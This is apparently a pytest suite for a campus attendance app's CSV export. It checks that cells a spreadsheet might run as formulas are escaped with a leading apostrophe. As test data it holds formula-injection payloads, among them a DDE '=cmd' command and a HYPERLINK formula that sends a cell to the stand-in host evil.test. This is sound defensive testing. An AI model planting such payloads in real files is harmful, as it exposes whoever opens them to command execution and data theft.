"""CSV: what a spreadsheet may open without running what a student has put into it."""

from __future__ import annotations

import csv
import io
from datetime import timedelta

import httpx
import psycopg
import pytest

from devstack.stack import Stack
from support.campus import Campus
from support.rest import Caller, Callers
from support.world import World

DANGEROUS = {
    "=1+1": "'=1+1",
    "+1": "'+1",
    "-1": "'-1",
    "@SUM(A1)": "'@SUM(A1)",
    "\t=1": "'\t'=1",
    "\r=1": "'\r'=1",
    "\n=1": "'\n'=1",
    "  =1": "'  =1",
    "\u00a0=1": "'\u00a0=1",
    "\uff1d1": "'\uff1d1",
    "\uff0b1": "'\uff0b1",
    "\uff0d1": "'\uff0d1",
    "\uff201": "'\uff201",
    "\u200b=1": "'\u200b=1",
    "\u3000@1": "'\u3000@1",
    "\ufeff=1": "'\ufeff=1",
    '=HYPERLINK("https://evil.test/?"&A1;"x")': '\'=HYPERLINK("https://evil.test/?"&A1;"x")',
    "\tindented": "'\tindented",
    "x;=1+1;y": "x;'=1+1;y",
    'x; "=1+1;y': "x; \"'=1+1;y",
    "x;;-1": "x;;'-1",
    "x\t=1": "x\t'=1",
    "x\r\n @A1\n=1": "x\r\n '@A1\n'=1",
}
"""What a spreadsheet would run, or take apart, and how it is told."""

HARMLESS = ("a=b", "1-2", "'=quoted", 'She said "no"', "a;b,c", "two\nlines", " padded ", "", "Ünï")


def lines(response: httpx.Response) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text, newline="")))


def records(response: httpx.Response) -> list[dict[str, str]]:
    names, *rows = lines(response)
    return [dict(zip(names, row, strict=True)) for row in rows]


@pytest.fixture(scope="module")
def ada(running: Stack, campus: Campus, callers: Callers) -> Caller:
    """An admin, in a week in which Sam attended one session and Sita none."""
    with psycopg.connect(running.db_url) as connection:
        world = World(connection)
        session = world.session(
            '=cmd|" /C calc"!A0',
            batch=campus.batch,
            mentor=campus.marta,
            starts=timedelta(hours=-2),
            status="completed",
        )
        world.attendance(session, campus.sam, joined_at="2025-03-03", minutes_present=60)
        world.attendance(session, campus.sita, "absent")
        connection.execute(
            "update public.profiles set full_name = '@Sam, \"S\"' where id = %s", (campus.sam,)
        )
    return callers.user(campus.ada)


def report(caller: Caller, name: str, **arguments: str) -> httpx.Response:
    days = {"from_date": "2025-01-01", "to_date": "2027-12-31", **arguments}
    return caller.send("GET", f"rpc/{name}", days, headers={"Accept": "text/csv"})


def test_a_report_comes_as_csv(ada: Caller) -> None:
    [row] = records(report(ada, "attendance_report"))

    [same] = ada.call("attendance_report", from_date="2025-01-01", to_date="2027-12-31").json()
    assert list(row) == list(same), "the columns, in their order"
    for name, value in same.items():
        told = float(row[name]) if isinstance(value, int | float) else row[name] or None
        assert told == value, name
    assert (row["attended"], row["attendance_rate"], row["fill_rate"]) == ("1", "0.5000", "")


def test_it_may_be_asked_for_by_post_too(ada: Caller) -> None:
    response = ada.send(
        "POST",
        "rpc/session_effectiveness",
        body={"from_date": "2025-01-01", "to_date": "2027-12-31"},
        headers={"Accept": "text/csv"},
    )

    [row] = records(response)
    assert row["title"] == '\'=cmd|" /C calc"!A0'
    assert row["is_handed_over"] == "false"


def test_a_hostile_name_is_told_as_text(ada: Caller, campus: Campus) -> None:
    rows = records(report(ada, "student_participation", course_id=str(campus.course)))

    assert [row["full_name"] for row in rows] == ['\'@Sam, "S"', "Sita Student"]
    assert [row["attended"] for row in rows] == ["1", "0"]


def test_a_roster_is_told_the_same_way(running: Stack, ada: Caller, campus: Campus) -> None:
    [session] = ada.get("success_sessions").json()
    response = ada.send(
        "GET", "rpc/session_roster", {"session_id": session["id"]}, headers={"Accept": "text/csv"}
    )

    assert '\'@Sam, "S"' in [row["full_name"] for row in records(response)]


def test_every_table_and_view_is_told_the_same_way(ada: Caller) -> None:
    for relation in ("success_sessions", "segmented_weekly_success_sessions"):
        response = ada.get(relation, accept="text/csv")
        [row] = records(response)
        assert row["title"] == '\'=cmd|" /C calc"!A0'
        assert row["capacity"] == ""
        assert response.text.endswith("\r\n")
        assert response.text.count("\r\n") == 2


def test_columns_cannot_be_chosen_where_postgrest_fails_to_but_nothing_is_told_raw(
    ada: Caller,
) -> None:
    """Of PostgREST 12.0.2, mended in 12.0.3 (its issue 3160): drop this when ours is newer."""
    response = ada.get("success_sessions", accept="text/csv", select="title,start_time")

    assert (response.status_code, response.json()["code"]) == (400, "42846")


def test_no_rows_are_an_empty_file(ada: Caller) -> None:
    response = ada.get("success_sessions", accept="text/csv", title="eq.none")

    assert response.status_code == 200
    assert response.text == ""


def test_the_filters_orders_and_pages_of_the_api_hold(ada: Caller) -> None:
    response = ada.get("profiles", accept="text/csv", order="full_name.desc", limit="2")

    assert [row["full_name"] for row in records(response)] == ["Uma Unbatched", "Sofia Superadmin"]


def test_a_student_gets_no_report_as_csv_either(
    ada: Caller, callers: Callers, campus: Campus
) -> None:
    refused = report(callers.user(campus.sam), "attendance_report")
    assert (refused.status_code, refused.json()["code"]) == (403, "42501")

    [own] = records(report(callers.user(campus.sam), "student_participation"))
    assert own["full_name"] == '\'@Sam, "S"'


@pytest.mark.parametrize("text", [*DANGEROUS, *HARMLESS], ids=ascii)
def test_a_cell_is_text_and_no_formula(conn: psycopg.Connection, text: str) -> None:
    row = conn.execute(
        "select public.csv(line) from (select %s::text as cell, -0.05 as number) as line", (text,)
    ).fetchone()

    assert row is not None
    told = list(csv.reader(io.StringIO(row[0], newline="")))
    assert told == [["cell", "number"], [DANGEROUS.get(text, text), "-0.05"]]


@pytest.mark.parametrize(
    ("scalar", "cell"), [("'=1'::text", '"\'=1"'), ("7", "7"), ("true", "true"), ("null::text", "")]
)
def test_what_is_no_row_is_a_file_of_one_column(
    conn: psycopg.Connection, scalar: str, cell: str
) -> None:
    row = conn.execute(f"select public.csv({scalar})".encode()).fetchone()

    assert row == (f'"value"\r\n{cell}\r\n',)


def test_a_name_of_a_column_is_a_cell_too(conn: psycopg.Connection) -> None:
    row = conn.execute('select public.csv(line) from (select 1 as "=1+1") as line').fetchone()

    assert row == ('"\'=1+1"\r\n1\r\n',)
